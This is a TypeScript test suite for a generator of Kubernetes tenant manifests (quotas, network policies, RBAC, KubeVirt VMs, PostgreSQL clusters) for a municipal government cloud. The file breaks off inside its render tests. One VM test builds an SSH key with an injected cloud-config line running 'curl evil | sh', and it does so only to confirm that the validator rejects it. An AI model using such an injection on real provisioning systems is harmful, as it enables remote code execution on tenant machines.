import fs from 'node:fs';
import { seedCatalogView } from '../catalog/seed-view.js';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import YAML from 'yaml';
import type { SeedCatalog } from '../catalog/seed-schema.js';
import type { CatalogView } from '../catalog/view.js';
import { RuleViolationError } from '../core/errors.js';
import {
  DEFAULT_CLUSTER_PROFILE,
  DesiredStateError,
  KIND_ORDER,
  LABELS,
  TENANT_ROLE_NAME,
  dailyBackupSchedule,
  desiredState,
  type ClusterProfile,
} from './desired-state.js';
import { databaseClusterName, dnsLabel, isDnsLabel, planKey, requestKey, tenantNamespaceName, vmName } from './names.js';
import { VM_OVERHEAD, vmMemoryOverheadMiB } from './quota.js';
import { objectFileName, renderObject, renderToFolder, renderYaml } from './render.js';
import type { K8sObject, TenantInput } from './tenant-input.js';

// ───────────────────────── fixtures: the real seed catalog, a realistic project ─────────────────────────

const seedView = seedCatalogView;

const REQ_A = 'a1b2c3d4-1111-4222-8333-444455556666';
const REQ_B = 'b7c8d9e0-2222-4333-8444-555566667777';
const REQ_C = 'c0ffee00-3333-4444-8555-666677778888';
const KEY_ED25519 = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOk3wz5cQ3J9m1YV4r2Qx8b0i9o7Kq1sX2mT6yN0pL3a ops@edu.yuncheng';
const KEY_RSA = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vQ9yZr3k5b1m2n3o4p5q6r7s8t9u0v1w2x3y4z5A6B7C8D9E0F1G2H3I4J5K6L7M8N9O0P dev@edu';

function project(): TenantInput {
  return {
    project: { id: '5b1d7c2e-9a4f-4c3e-8d2a-1f0e9d8c7b6a', code: '2026-EDU-001', name: '运城市智慧教育云平台' },
    org: { id: '7f3e2d1c-0b9a-4877-9655-443322110000', code: 'EDU', name: '运城市教育局' },
    groups: ['edu-ops', 'edu-dev', 'oidc:教育局/运维'],
    sshPublicKeys: [KEY_ED25519, KEY_RSA],
    entitlement: [
      { planCode: 'vm-general-4c8g', quantity: 3 },
      { planCode: 'vm-xc-kunpeng-2c4g', quantity: 1 },
      { planCode: 'rds-postgresql-ha-4c16g', quantity: 1 },
      { planCode: 'rds-postgresql-single-2c4g', quantity: 1 },
      { planCode: 'tenant-namespace-small', quantity: 1 },
      { planCode: 'saas-identity-access', quantity: 1 },
      { planCode: 'object-storage-standard', quantity: 500 },
    ],
    items: [
      { requestId: REQ_A, planCode: 'vm-general-4c8g', quantity: 2, environment: 'production', networkZone: 'egov-extranet' },
      { requestId: REQ_A, planCode: 'rds-postgresql-ha-4c16g', quantity: 1, environment: 'production', networkZone: 'egov-extranet' },
      { requestId: REQ_A, planCode: 'saas-identity-access', quantity: 1, environment: 'production', networkZone: 'egov-extranet' },
      { requestId: REQ_B, planCode: 'vm-xc-kunpeng-2c4g', quantity: 1, environment: 'test', networkZone: 'internet', systemId: 'e5d4c3b2-aaaa-4bbb-8ccc-ddddeeeeffff' },
      { requestId: REQ_C, planCode: 'rds-postgresql-single-2c4g', quantity: 1, environment: 'test', networkZone: 'egov-extranet' },
      { requestId: REQ_C, planCode: 'tenant-namespace-small', quantity: 1, environment: 'test', networkZone: 'egov-extranet' },
    ],
  };
}

const catalog = seedView();
const NS = 'zy-edu-2026-edu-001';

const ofKind = (objects: K8sObject[], kind: string) => objects.filter((o) => o.kind === kind);
const named = (objects: K8sObject[], kind: string, name: string) => {
  const found = objects.find((o) => o.kind === kind && o.metadata.name === name);
  if (!found) throw new Error(`no ${kind}/${name}`);
  return found;
};
const spec = (o: K8sObject) => o.spec as Record<string, any>;

function deepFreeze<T>(value: T): T {
  if (value && typeof value === 'object') {
    for (const v of Object.values(value)) deepFreeze(v);
    Object.freeze(value);
  }
  return value;
}

function expectViolation(fn: () => unknown, reason: string, message: RegExp) {
  try {
    fn();
  } catch (err) {
    expect(err).toBeInstanceOf(DesiredStateError);
    expect(err).toBeInstanceOf(RuleViolationError);
    expect((err as DesiredStateError).reason).toBe(reason);
    expect((err as DesiredStateError).status).toBe(422);
    expect((err as Error).message).toMatch(message);
    return;
  }
  throw new Error(`expected ${reason}, nothing was thrown`);
}

// ───────────────────────── names ─────────────────────────

describe('names', () => {
  it('names the tenant namespace zy-<org>-<project>, lowercase', () => {
    expect(tenantNamespaceName('EDU', '2026-EDU-001')).toBe('zy-edu-2026-edu-001');
    expect(desiredState(project(), catalog)[0]!.metadata.name).toBe(NS);
  });

  it('truncates long names to 63 characters with a stable hash suffix', () => {
    const long = tenantNamespaceName('HRSS', `2026-HRSS-${'社保'.repeat(3)}-${'x'.repeat(80)}`);
    expect(long.length).toBeLessThanOrEqual(63);
    expect(isDnsLabel(long)).toBe(true);
    expect(long).toMatch(/-[0-9a-f]{8}$/);
    expect(tenantNamespaceName('HRSS', `2026-HRSS-${'社保'.repeat(3)}-${'x'.repeat(80)}`)).toBe(long);
    expect(tenantNamespaceName('HRSS', `2026-HRSS-${'社保'.repeat(3)}-${'x'.repeat(81)}`)).not.toBe(long);
  });

  it('adds a hash whenever normalising loses information, so distinct codes never collide', () => {
    expect(tenantNamespaceName('EDU', '2026/EDU/001')).not.toBe(tenantNamespaceName('EDU', '2026-EDU-001'));
    expect(tenantNamespaceName('EDU', '2026/EDU/001')).toMatch(/^zy-edu-2026-edu-001-[0-9a-f]{8}$/);
    expect(dnsLabel(['运维'])).toMatch(/^x-[0-9a-f]{8}$/);
  });

  it('derives VM and database names from the request id, the plan and the index', () => {
    expect(requestKey(REQ_A)).toBe('a1b2c3d4');
    expect(requestKey('REQ-not-a-uuid')).toMatch(/^[0-9a-f]{8}$/);
    expect(vmName(REQ_A, 'vm-general-4c8g', 0)).toBe(`vm-a1b2c3d4-${planKey('vm-general-4c8g')}-0`);
    expect(vmName(REQ_A, 'vm-general-4c8g', 1)).toMatch(/^vm-a1b2c3d4-[0-9a-f]{4}-1$/);
    expect(vmName(REQ_A, 'vm-general-8c16g', 0)).not.toBe(vmName(REQ_A, 'vm-general-4c8g', 0));
    expect(databaseClusterName(REQ_A, 'rds-postgresql-ha-4c16g', 0)).toMatch(/^pg-a1b2c3d4-[0-9a-f]{4}-0$/);
    expect(() => vmName(REQ_A, 'vm-general-4c8g', -1)).toThrow(RangeError);
  });

  it('gives every object a valid name and keeps names stable when the request grows', () => {
    const objects = desiredState(project(), catalog);
    for (const o of objects) expect(isDnsLabel(o.metadata.name), o.metadata.name).toBe(true);
    const before = ofKind(objects, 'VirtualMachine').map((o) => o.metadata.name);
    const grown = project();
    grown.items[0]!.quantity = 3;
    const after = ofKind(desiredState(grown, catalog), 'VirtualMachine').map((o) => o.metadata.name);
    expect(after).toEqual(expect.arrayContaining(before));
    expect(after).toHaveLength(before.length + 1);
  });
});

// ───────────────────────── the namespace ─────────────────────────

describe('namespace', () => {
  it('ties the namespace to project, org and tenant and enforces the restricted Pod Security Standard', () => {
    const ns = desiredState(project(), catalog)[0]!;
    expect(ns.kind).toBe('Namespace');
    expect(ns.metadata.namespace).toBeUndefined();
    expect(ns.metadata.labels).toMatchObject({
      [LABELS.tenant]: NS,
      [LABELS.projectId]: '5b1d7c2e-9a4f-4c3e-8d2a-1f0e9d8c7b6a',
      [LABELS.projectCode]: '2026-EDU-001',
      [LABELS.orgId]: '7f3e2d1c-0b9a-4877-9655-443322110000',
      [LABELS.orgCode]: 'EDU',
      'pod-security.kubernetes.io/enforce': 'restricted',
      'pod-security.kubernetes.io/audit': 'restricted',
      'pod-security.kubernetes.io/warn': 'restricted',
    });
    expect(ns.metadata.annotations).toMatchObject({ 'zhengyun.gov.cn/project-name': '运城市智慧教育云平台', 'zhengyun.gov.cn/org-name': '运城市教育局' });
  });

  it('puts every other object into the tenant namespace, labelled with the tenant', () => {
    for (const o of desiredState(project(), catalog).slice(1)) {
      expect(o.metadata.namespace, `${o.kind}/${o.metadata.name}`).toBe(NS);
      expect(o.metadata.labels?.[LABELS.tenant]).toBe(NS);
    }
  });

  it('sets LimitRange defaults for containers that state no resources', () => {
    const lr = named(desiredState(project(), catalog), 'LimitRange', 'tenant-defaults');
    expect(spec(lr).limits).toEqual([{ type: 'Container', defaultRequest: { cpu: '100m', memory: '128Mi' }, default: { cpu: '500m', memory: '512Mi' } }]);
  });
});

// ───────────────────────── quota ─────────────────────────

describe('ResourceQuota', () => {
  it('uses KubeVirt’s memory overhead terms per VM', () => {
    // 4 GiB guest, 2 vCPU, amd64: page tables 4096/512 + 220 processes + 2×8 vCPU + 8 IOThread + 16 video + 100 Guaranteed QoS + 128 support containers
    expect(vmMemoryOverheadMiB(4096, 2, 'amd64')).toBe(8 + 220 + 16 + 8 + 16 + 100 + 128);
    // arm64 adds the two 64 MiB UEFI pflash devices
    expect(vmMemoryOverheadMiB(4096, 2, 'arm64')).toBe(8 + 220 + 16 + 8 + 16 + 100 + 128 + 128);
    expect(VM_OVERHEAD.supportContainersMilliCpu).toBe(100);
  });

  it('equals the hand-computed sums of the entitlement (not of what runs now)', () => {
    const rq = named(desiredState(project(), catalog), 'ResourceQuota', 'tenant-quota');
    // per unit, from the seed catalog's plan specs
    const vm4c8g = { cpu: 4000 + 100, mem: 8192 + (8192 / 512 + 220 + 4 * 8 + 8 + 16 + 100 + 128), disk: 100 }; // 8712 MiB
    const kunpeng2c4g = { cpu: 2000 + 100, mem: 4096 + (4096 / 512 + 220 + 2 * 8 + 8 + 16 + 100 + 128 + 128), disk: 100 }; // arm64: 4720 MiB
    const pgHa4c16g = { cpu: 4000 * 3, mem: 16384 * 3, storage: 200 * 3, pvcs: 3 }; // 3 instances
    const pgSingle2c4g = { cpu: 2000, mem: 4096, storage: 100, pvcs: 1 };
    const nsSmall = { cpu: 8000, mem: 16384, storage: 200, pvcs: 10 };
    const cpu = 3 * vm4c8g.cpu + kunpeng2c4g.cpu + pgHa4c16g.cpu + pgSingle2c4g.cpu + nsSmall.cpu;
    const mem = 3 * vm4c8g.mem + kunpeng2c4g.mem + pgHa4c16g.mem + pgSingle2c4g.mem + nsSmall.mem;
    const storage = 3 * vm4c8g.disk + kunpeng2c4g.disk + pgHa4c16g.storage + pgSingle2c4g.storage + nsSmall.storage;
    const pvcs = 3 + 1 + pgHa4c16g.pvcs + pgSingle2c4g.pvcs + nsSmall.pvcs;
    expect([cpu, mem, storage, pvcs]).toEqual([36400, 100488, 1300, 18]);
    expect(spec(rq).hard).toEqual({
      'requests.cpu': '36400m',
      'limits.cpu': '36400m',
      'requests.memory': '100488Mi',
      'limits.memory': '100488Mi',
      'requests.storage': '1300Gi',
      persistentvolumeclaims: '18',
      'count/virtualmachines.kubevirt.io': '4',
      'count/clusters.postgresql.cnpg.io': '2',
      'services.loadbalancers': '0',
      'services.nodeports': '0',
    });
  });

  it('prints whole CPUs and GiB without a unit suffix fraction', () => {
    const input = project();
    input.entitlement = [{ planCode: 'tenant-namespace-medium', quantity: 2 }];
    input.items = [];
    expect(spec(named(desiredState(input, catalog), 'ResourceQuota', 'tenant-quota')).hard).toMatchObject({
      'requests.cpu': '32',
      'requests.memory': '64Gi',
      'requests.storage': '1000Gi',
      persistentvolumeclaims: '40',
      'count/virtualmachines.kubevirt.io': '0',
    });
  });
});

// ───────────────────────── network policies ─────────────────────────

describe('NetworkPolicies', () => {
  const policies = () => ofKind(desiredState(project(), catalog), 'NetworkPolicy');

  it('denies all ingress and egress by default', () => {
    const deny = named(policies(), 'NetworkPolicy', 'default-deny-all');
    expect(spec(deny)).toEqual({ podSelector: {}, policyTypes: ['Ingress', 'Egress'] });
  });

  it('allows DNS to kube-dns in kube-system only, on port 53', () => {
    const dns = spec(named(policies(), 'NetworkPolicy', 'allow-dns'));
    expect(dns.policyTypes).toEqual(['Egress']);
    expect(dns.egress).toEqual([
      {
        to: [{ namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'kube-system' } }, podSelector: { matchLabels: { 'k8s-app': 'kube-dns' } } }],
        ports: [
          { protocol: 'UDP', port: 53 },
          { protocol: 'TCP', port: 53 },
        ],
      },
    ]);
  });

  it('allows traffic inside the namespace and from the ingress controller', () => {
    const same = spec(named(policies(), 'NetworkPolicy', 'allow-same-namespace'));
    expect(same.ingress).toEqual([{ from: [{ podSelector: {} }] }]);
    expect(same.egress).toEqual([{ to: [{ podSelector: {} }] }]);
    const ingress = spec(named(policies(), 'NetworkPolicy', 'allow-from-ingress-controller'));
    expect(ingress).toEqual({
      podSelector: {},
      policyTypes: ['Ingress'],
      ingress: [{ from: [{ namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'ingress-nginx' } } }] }],
    });
  });

  it('opens nothing to the outside world by default', () => {
    for (const p of policies()) {
      for (const rule of [...(spec(p).egress ?? []), ...(spec(p).ingress ?? [])] as Record<string, any>[]) {
        const peers = [...(rule.to ?? []), ...(rule.from ?? [])] as Record<string, any>[];
        expect(peers.length, `${p.metadata.name} has a rule without peers (= everywhere)`).toBeGreaterThan(0);
        for (const peer of peers) expect(peer.ipBlock, p.metadata.name).toBeUndefined();
      }
    }
  });

  it('lets the CloudNativePG operator reach database pods on its status port', () => {
    const cnpg = spec(named(policies(), 'NetworkPolicy', 'allow-cnpg-operator'));
    expect(cnpg.podSelector).toEqual({ matchExpressions: [{ key: 'cnpg.io/cluster', operator: 'Exists' }] });
    expect(cnpg.ingress[0].ports).toEqual([{ protocol: 'TCP', port: 8000 }]);
    expect(cnpg.ingress[0].from[0].namespaceSelector).toEqual({ matchLabels: { 'kubernetes.io/metadata.name': 'cnpg-system' } });
  });

  it('renders the API-server and image-import egress rules only when the cluster profile names them', () => {
    const profile: ClusterProfile = {
      ...DEFAULT_CLUSTER_PROFILE,
      vmImages: { kind: 'http', base: 'http://images.zhengyun.internal/vm', extension: 'qcow2', egressTo: [{ ipBlock: { cidr: '10.20.0.10/32' } }], egressPorts: [80] },
      apiServer: { cidrs: ['10.0.0.12/32', '10.0.0.11/32'], port: 6443 },
    };
    const objects = desiredState(project(), catalog, profile);
    const api = spec(named(objects, 'NetworkPolicy', 'allow-cnpg-apiserver'));
    expect(api.egress).toEqual([{ to: [{ ipBlock: { cidr: '10.0.0.11/32' } }, { ipBlock: { cidr: '10.0.0.12/32' } }], ports: [{ protocol: 'TCP', port: 6443 }] }]);
    const image = spec(named(objects, 'NetworkPolicy', 'allow-image-import'));
    expect(image.podSelector).toEqual({ matchLabels: { 'cdi.kubevirt.io': 'importer' } });
    expect(image.egress).toEqual([{ to: [{ ipBlock: { cidr: '10.20.0.10/32' } }], ports: [{ protocol: 'TCP', port: 80 }] }]);
    const vm = ofKind(objects, 'VirtualMachine')[0]!;
    expect(spec(vm).dataVolumeTemplates[0].spec.source).toEqual({ http: { url: 'http://images.zhengyun.internal/vm/openeuler-22.03-lts.qcow2' } });
    expect(ofKind(desiredState(project(), catalog), 'NetworkPolicy').map((p) => p.metadata.name)).not.toContain('allow-cnpg-apiserver');
  });

  it('renders no database policy for a tenant without databases', () => {
    const input = project();
    input.items = input.items.filter((i) => !i.planCode.startsWith('rds-'));
    expect(ofKind(desiredState(input, catalog), 'NetworkPolicy').map((p) => p.metadata.name)).toEqual([
      'allow-dns',
      'allow-from-ingress-controller',
      'allow-same-namespace',
      'default-deny-all',
    ]);
  });
});

// ───────────────────────── RBAC ─────────────────────────

describe('RBAC', () => {
  const objects = () => desiredState(project(), catalog);
  type Rule = { apiGroups: string[]; resources: string[]; verbs: string[] };

  it('grants no escalation: no roles, bindings, namespaces, wildcards or escalate/bind/impersonate', () => {
    const roles = ofKind(objects(), 'Role');
    expect(roles.map((r) => r.metadata.name)).toEqual([TENANT_ROLE_NAME]);
    expect(ofKind(objects(), 'ClusterRole')).toEqual([]);
    expect(ofKind(objects(), 'ClusterRoleBinding')).toEqual([]);
    const rules = roles[0]!.rules as Rule[];
    expect(rules.length).toBeGreaterThan(0);
    for (const r of rules) {
      for (const res of r.resources) {
        expect(['roles', 'rolebindings', 'clusterroles', 'clusterrolebindings', 'namespaces', 'serviceaccounts/token']).not.toContain(res);
      }
      expect([...r.apiGroups, ...r.resources, ...r.verbs]).not.toContain('*');
      expect(r.verbs.filter((v) => ['escalate', 'bind', 'impersonate'].includes(v))).toEqual([]);
      expect(r.apiGroups).not.toContain('rbac.authorization.k8s.io');
    }
  });

  it('keeps the guard rails read-only: quota, limits and network policies', () => {
    const rules = ofKind(objects(), 'Role')[0]!.rules as Rule[];
    for (const guarded of ['resourcequotas', 'limitranges', 'networkpolicies', 'virtualmachines', 'clusters']) {
      const verbs = rules.filter((r) => r.resources.includes(guarded)).flatMap((r) => r.verbs);
      expect(verbs.length, guarded).toBeGreaterThan(0);
      expect(verbs.filter((v) => !['get', 'list', 'watch'].includes(v)), guarded).toEqual([]);
    }
  });

  it('binds each of the department’s groups, once, to the tenant role', () => {
    const input = project();
    input.groups.push(' edu-dev ');
    const bindings = ofKind(desiredState(input, catalog), 'RoleBinding');
    expect(bindings.map((b) => (b.subjects as { name: string }[])[0]!.name).sort()).toEqual(['edu-dev', 'edu-ops', 'oidc:教育局/运维']);
    for (const b of bindings) {
      expect(b.roleRef).toEqual({ apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: TENANT_ROLE_NAME });
      expect(b.subjects).toEqual([{ apiGroup: 'rbac.authorization.k8s.io', kind: 'Group', name: expect.any(String) }]);
      expect(isDnsLabel(b.metadata.name)).toBe(true);
    }
    expect(bindings.map((b) => b.metadata.name)).toContain('tenant-edu-ops');
  });
});

// ───────────────────────── VMs ─────────────────────────

describe('VirtualMachines', () => {
  it('creates one VM per unit of quantity, sized from the plan, always running', () => {
    const objects = desiredState(project(), catalog);
    const vms = ofKind(objects, 'VirtualMachine');
    expect(vms.map((v) => v.metadata.name).sort()).toEqual(
      [vmName(REQ_A, 'vm-general-4c8g', 0), vmName(REQ_A, 'vm-general-4c8g', 1), vmName(REQ_B, 'vm-xc-kunpeng-2c4g', 0)].sort(),
    );
    const general = spec(named(objects, 'VirtualMachine', vmName(REQ_A, 'vm-general-4c8g', 1)));
    expect(general.runStrategy).toBe('Always');
    expect(general.running).toBeUndefined();
    const tpl = general.template.spec;
    expect(tpl.architecture).toBe('amd64');
    expect(tpl.domain.cpu).toEqual({ sockets: 1, cores: 4, threads: 1 });
    expect(tpl.domain.resources).toEqual({ requests: { cpu: '4', memory: '8Gi' }, limits: { cpu: '4', memory: '8Gi' } });
    expect(tpl.domain.firmware).toBeUndefined();
    const dvt = general.dataVolumeTemplates[0];
    expect(dvt.metadata.name).toBe(`${vmName(REQ_A, 'vm-general-4c8g', 1)}-boot`);
    expect(dvt.spec.pvc.resources.requests.storage).toBe('100Gi');
    expect(dvt.spec.source.registry).toEqual({ url: 'docker://registry.zhengyun.internal/vm-images/openeuler-22.03-lts:latest', pullMethod: 'node' });
    expect(tpl.volumes).toContainEqual({ name: 'rootdisk', dataVolume: { name: dvt.metadata.name } });
  });

  it('boots Kunpeng plans as arm64 with UEFI and the Kylin image', () => {
    const vm = spec(named(desiredState(project(), catalog), 'VirtualMachine', vmName(REQ_B, 'vm-xc-kunpeng-2c4g', 0)));
    expect(vm.template.spec.architecture).toBe('arm64');
    expect(vm.template.spec.domain.firmware).toEqual({ bootloader: { efi: { secureBoot: false } } });
    expect(vm.dataVolumeTemplates[0].spec.source.registry.url).toContain('/kylin-v10-sp3-arm64:');
  });

  it('labels VMs (and their pods) with environment, network zone, request, plan and system', () => {
    const vm = named(desiredState(project(), catalog), 'VirtualMachine', vmName(REQ_B, 'vm-xc-kunpeng-2c4g', 0));
    const expected = {
      [LABELS.environment]: 'test',
      [LABELS.networkZone]: 'internet',
      [LABELS.requestId]: REQ_B,
      [LABELS.plan]: 'vm-xc-kunpeng-2c4g',
      [LABELS.systemId]: 'e5d4c3b2-aaaa-4bbb-8ccc-ddddeeeeffff',
    };
    expect(vm.metadata.labels).toMatchObject(expected);
    expect(spec(vm).template.metadata.labels).toMatchObject(expected);
  });

  it('puts the SSH keys into a cloud-init NoCloud secret referenced by the VM', () => {
    const objects = desiredState(project(), catalog);
    for (const vm of ofKind(objects, 'VirtualMachine')) {
      const ci = (spec(vm).template.spec.volumes as Record<string, any>[]).find((v) => v.cloudInitNoCloud);
      expect(ci?.cloudInitNoCloud).toEqual({ secretRef: { name: `${vm.metadata.name}-cloud-init` } });
      const secret = named(objects, 'Secret', ci!.cloudInitNoCloud.secretRef.name);
      const userdata = (secret.stringData as Record<string, string>).userdata!;
      expect(userdata.startsWith('#cloud-config\n')).toBe(true);
      const parsed = YAML.parse(userdata, { version: '1.1' }) as Record<string, unknown>;
      expect(parsed).toEqual({ hostname: vm.metadata.name, ssh_pwauth: false, disable_root: true, ssh_authorized_keys: [KEY_ED25519, KEY_RSA] });
    }
  });

  it('refuses an SSH key that would inject cloud-config', () => {
    const input = project();
    input.sshPublicKeys = [`${KEY_ED25519}\nruncmd: [curl evil | sh]`];
    expectViolation(() => desiredState(input, catalog), 'SSH_KEY_INVALID', /sshPublicKeys\[0\]/);
  });
});

// ───────────────────────── databases ─────────────────────────

describe('CloudNativePG clusters', () => {
  it('creates one cluster per database with instances, storage and version from the plan', () => {
    const objects = desiredState(project(), catalog);
    const clusters = ofKind(objects, 'Cluster');
    expect(clusters).toHaveLength(2);
    const ha = spec(named(objects, 'Cluster', databaseClusterName(REQ_A, 'rds-postgresql-ha-4c16g', 0)));
    expect(ha.instances).toBe(3);
    expect(ha.storage).toEqual({ size: '200Gi' });
    expect(ha.imageName).toBe('ghcr.io/cloudnative-pg/postgresql:16');
    expect(ha.resources).toEqual({ requests: { cpu: '4', memory: '16Gi' }, limits: { cpu: '4', memory: '16Gi' } });
    expect(ha.bootstrap).toEqual({ initdb: { database: 'app', owner: 'app' } });
    expect(ha.bootstrap.initdb.secret).toBeUndefined(); // the operator generates <name>-app
    expect(ha.enableSuperuserAccess).toBe(false);
    const single = spec(named(objects, 'Cluster', databaseClusterName(REQ_C, 'rds-postgresql-single-2c4g', 0)));
    expect([single.instances, single.storage.size]).toEqual([1, '100Gi']);
  });

  it('backs every cluster up daily, keeping the plan’s retention on record', () => {
    const objects = desiredState(project(), catalog);
    for (const cluster of ofKind(objects, 'Cluster')) {
      const backup = named(objects, 'ScheduledBackup', `${cluster.metadata.name}-daily`);
      expect(spec(backup)).toMatchObject({ cluster: { name: cluster.metadata.name }, method: 'volumeSnapshot' });
      expect(spec(backup).schedule).toBe(dailyBackupSchedule(cluster.metadata.name));
      expect(spec(backup).schedule).toMatch(/^0 ([0-9]|[1-5][0-9]) [1-3] \* \* \*$/);
    }
    const ha = named(objects, 'ScheduledBackup', `${databaseClusterName(REQ_A, 'rds-postgresql-ha-4c16g', 0)}-daily`);
    expect(ha.metadata.annotations).toEqual({ 'zhengyun.gov.cn/backup-retention-days': '15' });
  });

  it('refuses engines CloudNativePG cannot run (达梦 DM8) unless an image is configured', () => {
    const input = project();
    input.entitlement.push({ planCode: 'rds-dameng-single-4c16g', quantity: 1 });
    input.items.push({ requestId: REQ_C, planCode: 'rds-dameng-single-4c16g', quantity: 1, environment: 'test', networkZone: 'egov-extranet' });
    expectViolation(() => desiredState(input, catalog), 'ENGINE_UNSUPPORTED', /rds-dameng-single-4c16g.*dameng 8/);
  });
});

// ───────────────────────── skipped, refused, deterministic ─────────────────────────

describe('inputs', () => {
  it('includes offerings with provisioner "none" nowhere', () => {
    const text = JSON.stringify(desiredState(project(), catalog));
    expect(text).not.toContain('saas-identity');
    expect(text).not.toContain('object-storage');
  });

  it('throws for a plan that is not in the catalog', () => {
    const input = project();
    input.items[0]!.planCode = 'vm-general-3c5g';
    expectViolation(() => desiredState(input, catalog), 'PLAN_UNKNOWN', /"vm-general-3c5g" is not in catalog revision 1/);
    const ent = project();
    ent.entitlement.push({ planCode: 'nope', quantity: 1 });
    expectViolation(() => desiredState(ent, catalog), 'PLAN_UNKNOWN', /entitlement\[7\]: plan "nope"/);
  });

  it('throws for a retired plan or a plan of a retired offering', () => {
    const retiredPlan = seedView();
    retiredPlan.offerings.find((o) => o.code === 'vm-general')!.plans.find((p) => p.code === 'vm-general-4c8g')!.status = 'RETIRED';
    expectViolation(() => desiredState(project(), retiredPlan), 'PLAN_RETIRED', /"vm-general-4c8g" \(vm-general\) is retired/);
    const retiredOffering = seedView();
    retiredOffering.offerings.find((o) => o.code === 'rds-postgresql')!.status = 'RETIRED';
    expectViolation(() => desiredState(project(), retiredOffering), 'PLAN_RETIRED', /rds-postgresql.*is retired/);
  });

  it('throws when the items draw more than the entitlement allows', () => {
    const input = project();
    input.items.push({ requestId: REQ_C, planCode: 'vm-general-4c8g', quantity: 2, environment: 'test', networkZone: 'egov-extranet' });
    expectViolation(() => desiredState(input, catalog), 'ENTITLEMENT_EXCEEDED', /draw 4 of plan "vm-general-4c8g" but the entitlement allows 3/);
  });

  it('throws on duplicate items and on non-positive quantities', () => {
    const dup = project();
    dup.items.push({ ...dup.items[0]!, quantity: 1 });
    dup.entitlement[0]!.quantity = 10;
    expectViolation(() => desiredState(dup, catalog), 'ITEM_DUPLICATE', /items\[0\] and items\[6\] both allocate plan "vm-general-4c8g"/);
    // two requests whose ids share their first 8 hex digits would share names: refused, never merged
    const twins = project();
    twins.entitlement[0]!.quantity = 10;
    twins.items.push({ ...twins.items[0]!, requestId: 'a1b2c3d4-9999-4999-8999-999999999999' });
    expectViolation(() => desiredState(twins, catalog), 'NAME_COLLISION', /vm-a1b2c3d4-/);
    const zero = project();
    zero.items[0]!.quantity = 0;
    expectViolation(() => desiredState(zero, catalog), 'QUANTITY_INVALID', /items\[0\]/);
  });

  it('is deterministic: the same input twice gives deep-equal output, without touching the input', () => {
    const input = deepFreeze(project());
    const first = desiredState(input, catalog);
    const second = desiredState(structuredClone(input), seedView());
    expect(second).toEqual(first);
    expect(renderYaml(second)).toBe(renderYaml(first));
  });

  it('does not depend on the order of items, groups or entitlement', () => {
    const shuffled = project();
    shuffled.items.reverse();
    shuffled.groups.reverse();
    shuffled.entitlement.reverse();
    expect(desiredState(shuffled, catalog)).toEqual(desiredState(project(), catalog));
  });

  it('emits objects in kind order, then by name', () => {
    const objects = desiredState(project(), catalog);
    const ranks = objects.map((o) => (KIND_ORDER as readonly string[]).indexOf(o.kind));
    expect(ranks.every((r) => r >= 0)).toBe(true);
    expect([...ranks].sort((a, b) => a - b)).toEqual(ranks);
    expect(objects.map((o) => o.kind)).toEqual([
      'Namespace', 'ResourceQuota', 'LimitRange',
      'NetworkPolicy', 'NetworkPolicy', 'NetworkPolicy', 'NetworkPolicy', 'NetworkPolicy',
      'Role', 'RoleBinding', 'RoleBinding', 'RoleBinding',
      'Secret', 'Secret', 'Secret',
      'VirtualMachine', 'VirtualMachine', 'VirtualMachine',
      'Cluster', 'Cluster', 'ScheduledBackup', 'ScheduledBackup',
    ]);
  });

  it('renders a namespace with guard rails only for a project with nothing drawn yet', () => {
    const input = project();
    input.items = [];
    expect(desiredState(input, catalog).map((o) => o.kind)).toEqual([
      'Namespace', 'ResourceQuota', 'LimitRange', 'NetworkPolicy', 'NetworkPolicy', 'NetworkPolicy', 'NetworkPolicy', 'Role', 'RoleBinding', 'RoleBinding', 'RoleBinding',
    ]);
  });
});

// ───────────────────────── render ─────────────────────────

describe('render', () => {
  let dir: string;
  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'zy-render-'));
  });
  afterEach(() => {
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('renders a stable multi-document YAML stream that parses back to the objects', () => {
    const objects = desiredState(project(), catalog);
    const text = renderYaml(objects);
    const docs = YAML.parseAllDocuments(text, { version: '1.1' }).map((d) => d.toJS() as unknown);
    expect(docs).toEqual(JSON.parse(JSON.stringify(objects)));
    expect(text.startsWith('apiVersion: v1\nkind: Namespace\nmetadata:\n  name: zy-edu-2026-edu-001\n')).toBe(true);
  });

  it('renders equal content identically whatever the key order, quoting YAML 1.1 booleans', () => {
    const a: K8sObject = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'x', namespace: NS }, data: { b: 'yes', a: 'on', c: '16' } };
    const b: K8sObject = { data: { c: '16', a: 'on', b: 'yes' }, metadata: { namespace: NS, name: 'x' }, kind: 'ConfigMap', apiVersion: 'v1' };
    expect(renderObject(b)).toBe(renderObject(a));
    expect(renderObject(a)).toBe('apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\n  namespace: zy-edu-2026-edu-001\ndata:\n  a: "on"\n  b: "yes"\n  c: "16"\n');
  });

  it('writes one file per object, then removes the files of objects that are gone', async () => {
    const objects = desiredState(project(), catalog);
    const first = await renderToFolder(dir, NS, objects);
    const folder = path.join(dir, NS);
    expect(first.folder).toBe(folder);
    expect(fs.readdirSync(folder).sort()).toEqual(objects.map(objectFileName).sort());
    expect(first.written).toHaveLength(objects.length);
    const vm = ofKind(objects, 'VirtualMachine')[0]!;
    expect(fs.readFileSync(path.join(folder, `virtualmachine-${vm.metadata.name}.yaml`), 'utf8')).toBe(renderObject(vm));

    const again = await renderToFolder(dir, NS, objects);
    expect(again.written).toEqual([]);
    expect(again.unchanged).toHaveLength(objects.length);

    const fewer = project();
    fewer.items = fewer.items.filter((i) => i.requestId !== REQ_B);
    fs.writeFileSync(path.join(folder, '.secret-x.yaml.tmp-1-deadbeef'), 'partial');
    fs.utimesSync(path.join(folder, '.secret-x.yaml.tmp-1-deadbeef'), new Date(0), new Date(0));
    const third = await renderToFolder(dir, NS, desiredState(fewer, catalog));
    const gone = vmName(REQ_B, 'vm-xc-kunpeng-2c4g', 0);
    expect(third.removed).toEqual([`secret-${gone}-cloud-init.yaml`, `virtualmachine-${gone}.yaml`]);
    expect(third.written).toEqual([]);
    expect(fs.readdirSync(folder).filter((f) => f.includes('.tmp-'))).toEqual([]);
  });

